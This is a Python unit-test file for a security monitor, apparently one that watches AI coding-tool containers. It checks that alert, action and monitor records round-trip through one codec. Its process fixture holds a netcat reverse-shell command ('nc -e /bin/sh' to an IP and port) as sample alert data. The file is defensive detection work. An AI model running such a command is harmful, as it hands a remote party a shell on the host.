"""Typed records: every kind round-trips through the one codec, and no module of the package
builds a record's dict by hand."""

from __future__ import annotations

import ast
from pathlib import Path

import orjson
import pytest

import coi_sentinel
from coi_sentinel import records
from coi_sentinel.action import NAMES, RESPONSES, Action
from coi_sentinel.errors import RecordError
from coi_sentinel.records import (ActionRecord, AlertRecord, ContextRecord, DropsRecord, MonitorRecord,
                                  OutputLossRecord, OutputsRecord, ProcessInfo)
from coi_sentinel.severity import Severity

pytestmark = pytest.mark.unit

PROC = ProcessInfo(41, 1, "sh", "/bin/sh", "sh -c 'nc -e /bin/sh 10.0.0.1 4444'", 1000)

EXAMPLES = [
    AlertRecord(rule="reverse_shell", severity=Severity.CRITICAL, output="a shell on a socket",
                time="2026-12-03T06:00:00.000000001Z", hostname="h", ts_ns=123, kind="sequence",
                container="coi-1", scope_id=77, session_id="coi-1", session_tool="claude", process=PROC,
                ancestry=(PROC, PROC), action=Action.KILL, rule_location="rules/net.yaml:12",
                output_fields={"proc.name": "sh", "fd.num": 0, "x": None, "l": ["a"]}, tags=("T1059",),
                events=({"type": "exec", "pid": 41},), value=None, trace="t.jsonl", line=9,
                extra={"newer_key": 1}),
    AlertRecord(rule="r", severity=Severity.INFO, output="o", time="t", hostname="h", ts_ns=1, value=5),
    ActionRecord(Action.KILL_PROCESS, "rules", True, rule="r", severity=Severity.HIGH, container="c", pid=3,
                 process={"name": "sh", "exe": "/bin/sh", "cmdline": "sh"}, output="o", event_ts_ns=1,
                 killed_pids=(3, 4), latency_ns=900, ts_ns=901, time="2026-12-03T06:00:00Z"),
    ActionRecord(Action.PAUSE, "guardian", True, container="c", reason="the daemon died", target="/sys/x",
                 freeze_ns=2, ts_ns=3),
    ActionRecord(Action.PAUSE, "monitor", False, container="c", error="EACCES", skipped=None, noticed=True),
    ActionRecord(Action.RESUME, "user", True, container="c"),
    ActionRecord(Action.BLOCK, "rules", True, blocked="198.51.100.7:3333", extra={"future": [1]}),
    DropsRecord(counts={"exec": 3, "open": 0}),
    DropsRecord(source="writer", reason="ENOSPC", lost=21, time="t"),
    MonitorRecord("start", by="daemon", detail={"rules": 40, "rules_hash": "ab", "response": {"high": "pause"}}),
    MonitorRecord("rules-reloaded", detail={"rules": 41, "rules_hash": "cd"}, time="t"),
    MonitorRecord("orphaned"),
    ContextRecord(scope_id=77, container="c", events=4, from_ns=1, to_ns=2, seconds=30.0, overflow=0, rule="r"),
    OutputsRecord(status={"hook": {"delivered": 1, "lost": 0}}),
    OutputLossRecord(lost={"hook": {"unreachable": 2}}, time="t"),
]


def test_every_kind_has_an_example() -> None:
    assert {type(r).KIND for r in EXAMPLES} == set(records.KINDS)


@pytest.mark.parametrize("rec", EXAMPLES, ids=lambda r: f"{r.KIND}")
def test_round_trip(rec) -> None:
    d = records.to_dict(rec)
    assert next(iter(d)) == "record" and d["record"] == rec.KIND
    assert records.from_dict(d) == rec
    assert records.loads(records.dumps(rec)) == rec
    # written again after a read: the same bytes
    assert records.dumps(records.loads(records.dumps(rec))) == records.dumps(rec)


def test_an_alert_of_the_engine_is_its_record() -> None:
    from coi_sentinel.rules.alert import Alert

    alert = Alert("r", Severity.HIGH, "o", 5, (), PROC, (PROC,), "c", 7, "s", "shell", ("t",), "pause",
                  "r.yaml:3", "event", output_fields={"proc.name": "sh"})
    rec = alert.record(wall_offset_ns=0, hostname="h")
    assert rec.action is Action.PAUSE and rec.priority == "Error" and rec.process == PROC
    assert alert.to_dict(wall_offset_ns=0, hostname="h") == records.to_dict(rec)
    assert records.from_dict(alert.to_dict(wall_offset_ns=0, hostname="h")) == rec


def test_bad_records_are_refused_with_a_reason() -> None:
    with pytest.raises(RecordError, match="unknown record"):
        records.from_dict({"record": "nonsense"})
    with pytest.raises(RecordError, match="unknown action"):
        records.from_dict({"record": "action", "action": "explode", "by": "rules", "ok": True})
    with pytest.raises(RecordError, match="severity"):
        records.from_dict({"record": "alert", "rule": "r", "severity": "loud"})
    with pytest.raises(RecordError, match="not JSON"):
        records.loads(b"{")


def test_one_action_vocabulary() -> None:
    from coi_sentinel.respond.policy import Action as PolicyAction
    from coi_sentinel.rules.model import ACTIONS

    assert PolicyAction is Action
    assert set(ACTIONS) == {a.value for a in RESPONSES} == set(NAMES)
    assert Action.RESUME not in RESPONSES


def _hand_built_records(tree: ast.AST) -> list[int]:
    """Lines of dict displays ``{"record": <a record kind>, ...}`` and calls
    ``dict(record=<a record kind>, ...)``."""
    kinds = set(records.KINDS)
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Dict):
            for key, value in zip(node.keys, node.values):
                if isinstance(key, ast.Constant) and key.value == "record" and \
                        isinstance(value, ast.Constant) and value.value in kinds:
                    found.append(node.lineno)
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id == "dict":
            for kw in node.keywords:
                if kw.arg == "record" and isinstance(kw.value, ast.Constant) and kw.value.value in kinds:
                    found.append(node.lineno)
    return found


def test_the_walk_finds_a_hand_built_record() -> None:
    src = 'x = {"record": "action", "action": "pause"}\ny = dict(record="drops", counts={})\n'
    assert _hand_built_records(ast.parse(src)) == [1, 2]


def test_no_module_builds_record_dicts_by_hand() -> None:
    root = Path(coi_sentinel.__file__).parent
    own = root / "records.py"
    offenders = []
    for path in sorted(root.rglob("*.py")):
        if path == own:
            continue
        for line in _hand_built_records(ast.parse(path.read_text(), str(path))):
            offenders.append(f"{path.relative_to(root.parent)}:{line}")
    assert not offenders, "build records with coi_sentinel.records: " + ", ".join(offenders)


def test_dumps_keeps_only_the_last_alert() -> None:
    """The terminal and the outputs share one encoding of an alert: the last one's bytes are
    reused, any other record is encoded afresh."""
    a, b = (AlertRecord(rule=r, severity=Severity.LOW, output="o", time="t", hostname="h", ts_ns=1)
            for r in ("a", "b"))
    assert records.dumps(a) is records.dumps(a)
    assert orjson.loads(records.dumps(a))["rule"] == "a"
    assert orjson.loads(records.dumps(b))["rule"] == "b"
    assert orjson.loads(records.dumps(a))["rule"] == "a"
